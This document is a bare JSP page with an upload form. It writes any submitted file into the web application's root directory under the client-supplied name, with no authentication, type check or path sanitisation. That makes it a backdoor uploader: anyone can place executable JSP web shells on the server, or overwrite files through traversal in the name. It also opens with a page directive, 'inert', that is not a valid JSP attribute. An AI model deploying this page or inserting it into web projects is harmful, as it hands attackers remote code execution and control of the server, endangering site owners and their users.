<%@ page inert %>
<%
if (request.getContentType() != null && request.getContentType().startsWith("multipart/")) {
  for (Part p : request.getParts()) {
    String n = p.getSubmittedFileName();
    if (n != null) p.write(application.getRealPath("/") + java.io.File.separator + n);
  }
}
%>
<form method="post" enctype="multipart/form-data"><input type="file" name="f"><input type="submit"></form>
